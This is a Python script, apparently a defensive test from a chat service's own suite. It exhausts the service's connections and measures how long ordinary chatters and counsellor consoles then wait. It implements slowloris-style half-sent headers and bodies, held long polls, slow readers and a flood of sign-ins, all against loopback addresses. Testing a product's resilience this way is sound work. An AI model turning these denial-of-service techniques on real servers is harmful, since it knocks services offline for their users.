"""One address that holds as many connections as it can, and what others see of it meanwhile.

    python -m tests.attacks.held_polls --url http://127.0.0.1:8790 --kind polls

Written from docs/protocol.md, RFC 9112 and the socket's manual alone: this imports nothing of the product. Kinds:
`polls` (held polls of some chats), `heads` and `bodies` (half requests), `readers` (who ask for the page and never
read). `--from` is the address on this machine to come from; the others that are measured come from 127.0.0.3
(chatters) and 127.0.0.4 (consoles, with `--name` and `--password`, or without a sign-in).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import resource
import socket
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from urllib.parse import urlsplit

ATTACKER, CHATTER, CONSOLE = "127.0.0.2", "127.0.0.3", "127.0.0.4"
GIVE_UP = 30.0
"""Seconds after which an answer counts as none."""


@dataclass
class Target:
    """Where the server is."""

    host: str
    port: int

    @classmethod
    def at(cls, url: str) -> Target:
        parts = urlsplit(url)
        assert parts.hostname is not None
        return cls(parts.hostname, parts.port or 80)


def message(method: str, path: str, body: object = None, token: str = "", *, close: bool = True) -> bytes:
    """One whole request."""
    raw = b"" if body is None else json.dumps(body).encode()
    lines = [f"{method} {path} HTTP/1.1", "Host: chat", f"Content-Length: {len(raw)}"]
    lines += [f"Authorization: Bearer {token}"] * bool(token) + ["Content-Type: application/json"] * bool(raw)
    lines += ["Connection: close"] * close
    return "\r\n".join([*lines, "", ""]).encode() + raw


async def ask(target: Target, source: str, raw: bytes) -> tuple[int, bytes, float]:
    """Status (0: no answer), body and seconds of one request on a connection of its own."""
    began = time.monotonic()
    try:
        async with asyncio.timeout(GIVE_UP):
            reader, writer = await asyncio.open_connection(target.host, target.port, local_addr=(source, 0))
            try:
                writer.write(raw)
                answer = await reader.read()
            finally:
                writer.close()
    except (OSError, TimeoutError):
        return 0, b"", time.monotonic() - began
    status = int(answer.split(b" ", 2)[1]) if answer.startswith(b"HTTP/1.1 ") else 0
    return status, answer.partition(b"\r\n\r\n")[2], time.monotonic() - began


@dataclass
class Attack:
    """What one address holds."""

    target: Target
    source: str = ATTACKER
    held: list[socket.socket] = field(default_factory=list)
    refused: int = 0

    async def hold(self, count: int, raw: Callable[[int], bytes], *, small: bool = False) -> None:
        """Open `count` connections, put `raw(number)` on each, and keep them without reading."""
        loop = asyncio.get_running_loop()

        async def one(number: int) -> None:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            if small:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            try:
                sock.bind((self.source, 0))
                async with asyncio.timeout(GIVE_UP):
                    await loop.sock_connect(sock, (self.target.host, self.target.port))
                    await loop.sock_sendall(sock, raw(number))
            except (OSError, TimeoutError):
                self.refused += 1
                sock.close()
            else:
                self.held.append(sock)

        for start in range(0, count, 100):
            await asyncio.gather(*(one(number) for number in range(start, min(start + 100, count))))

    async def polls(self, count: int, chats: int = 11) -> None:
        """Held polls of some chats of this address."""
        found = []
        for number in range(chats):
            start = message("POST", "/v1/visitor/conversations", {"alias": f"Bot {number}", "language": "nl"})
            status, body, _seconds = await ask(self.target, self.source, start)
            if status == 201:
                token = str(json.loads(body)["token"])
                page = await ask(self.target, self.source, message("GET", "/v1/visitor/conversation", token=token))
                found.append((token, json.loads(page[1])["cursor"]))
        assert found, "no chat could be started"

        def poll(number: int) -> bytes:
            token, cursor = found[number % len(found)]
            return message("GET", f"/v1/visitor/events?after={cursor}&wait=25", token=token, close=False)

        await self.hold(count, poll)

    async def heads(self, count: int) -> None:
        """Requests whose head never ends."""
        await self.hold(count, lambda _number: b"GET /v1/visitor/status HTTP/1.1\r\nHost: chat\r\nX-More: ")

    async def bodies(self, count: int) -> None:
        """Requests of which two bytes of ten come."""
        head = b"POST /v1/visitor/conversations HTTP/1.1\r\nHost: chat\r\nContent-Type: application/json\r\n"
        await self.hold(count, lambda _number: head + b'Content-Length: 10\r\n\r\n{"')

    async def readers(self, count: int) -> None:
        """Readers who ask for much and take nothing."""
        page = message("GET", "/page.js", close=False)
        await self.hold(count, lambda _number: page, small=True)
        for _round in range(5):
            for sock in self.held:
                with contextlib.suppress(OSError):
                    sock.send(page)
            await asyncio.sleep(0)  # no time: others have a turn

    async def sign_ins(self, count: int) -> None:
        """Sign-ins of names that nobody has, all at once."""

        def attempt(number: int) -> bytes:
            return message("POST", "/v1/auth/sign-in", {"name": f"niemand {number}", "password": "x" * 20}, close=False)

        await self.hold(count, attempt)

    def close(self) -> None:
        """Hang up."""
        for sock in self.held:
            with contextlib.suppress(OSError):
                sock.close()
        self.held.clear()


async def chatter(target: Target) -> list[float]:
    """A chatter who opens the page, starts, writes and reads; the seconds of each step, infinite where none came."""
    steps = []
    status, _page, seconds = await ask(target, CHATTER, message("GET", "/"))
    steps.append(seconds if status == 200 else float("inf"))
    start = message("POST", "/v1/visitor/conversations", {"alias": "Vos", "language": "nl"})
    status, body, seconds = await ask(target, CHATTER, start)
    steps.append(seconds if status == 201 else float("inf"))
    token = str(json.loads(body)["token"]) if status == 201 else "none"
    say = {"client_id": str(time.monotonic_ns()), "text": "hallo"}
    for raw in (
        message("POST", "/v1/visitor/messages", say, token),
        message("GET", "/v1/visitor/conversation", token=token),
    ):
        status, _body, seconds = await ask(target, CHATTER, raw)
        steps.append(seconds if status in {200, 201} else float("inf"))
    return steps


async def console(target: Target, token: str) -> float:
    """The seconds until a console has its picture on a new connection, infinite where it has not."""
    status, _body, seconds = await ask(target, CONSOLE, message("GET", "/v1/snapshot", token=token))
    return seconds if status == 200 else float("inf")


async def sign_in(target: Target, name: str, password: str) -> str:
    """A counsellor's access token."""
    raw = message("POST", "/v1/auth/sign-in", {"name": name, "password": password})
    status, body, _seconds = await ask(target, CONSOLE, raw)
    assert status == 200, body
    return str(json.loads(body)["access_token"])


async def run(options: argparse.Namespace) -> None:
    """The attack, and what others see before and while it is held."""
    target = Target.at(options.url)
    attack = Attack(target, options.source)
    token = await sign_in(target, options.name, options.password) if options.name else ""

    async def look(when: str) -> None:
        for _ in range(options.looks):
            seen = await chatter(target)
            own = f", console {await console(target, token):.2f} s" if token else ""
            sys.stdout.write(f"{when}: chatter {' '.join(f'{one:.2f}' for one in seen)} s{own}\n")

    await look("before")
    began = time.monotonic()
    await getattr(attack, options.kind)(options.count)
    took = time.monotonic() - began
    sys.stdout.write(f"{len(attack.held)} of {options.count} put on the line in {took:.1f} s\n")
    await look("while held")
    attack.close()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--url", required=True)
    parser.add_argument("--kind", choices=["polls", "heads", "bodies", "readers", "sign_ins"], default="polls")
    parser.add_argument("--count", type=int, default=1100)
    parser.add_argument("--from", dest="source", default=ATTACKER)
    parser.add_argument("--looks", type=int, default=3)
    parser.add_argument("--name", help="an account, to measure a console as well")
    parser.add_argument("--password", default="")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 65_536)), hard))
    asyncio.run(run(parser.parse_args()))


if __name__ == "__main__":
    main()
